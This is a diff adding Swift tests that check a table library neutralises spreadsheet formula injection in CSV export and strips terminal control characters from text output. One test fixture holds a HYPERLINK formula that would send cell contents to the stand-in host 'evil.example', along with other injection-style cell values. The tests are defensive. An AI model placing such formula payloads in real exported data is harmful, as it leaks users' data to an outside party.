@@ -76,3 +76,27 @@ struct TableWidthTests {
         #expect(table.renderText(width: 200).contains("Victims' Rights Information Line for Everyone"))
     }
 }
+
+@Suite("CSV for people: formulas neutralised")
+struct CSVNeutralisationTests {
+    @Test func cellsASpreadsheetWouldRunAsFormulasAreShownAsText() {
+        let table = Table(
+            columns: [.init("name"), .init("phone"), .init("score")],
+            rows: [
+                [#"=HYPERLINK("http://evil.example/?leak="&A1, "click")"#, "+44 113 496 0000", "-1.5"],
+                ["@SUM(A1)", "-cmd", "12"],
+            ]
+        )
+        let csv = table.renderCSV()
+        #expect(csv.contains(#""'=HYPERLINK(""http://evil.example/?leak=""&A1, ""click"")""#))
+        #expect(csv.contains("'+44 113 496 0000"))
+        #expect(csv.contains(",-1.5\n"), "a plain number stays a number")
+        #expect(csv.contains("'@SUM(A1),'-cmd,12"))
+    }
+
+    @Test func controlCharactersNeverReachTheTerminal() {
+        let table = Table(columns: [.init("name")], rows: [["Leeds \u{1B}[31mRed\u{1B}[0m \u{7}Outreach"]])
+        let text = table.renderText(width: 80)
+        #expect(!text.contains("\u{1B}") && !text.contains("\u{7}"))
+    }
+}
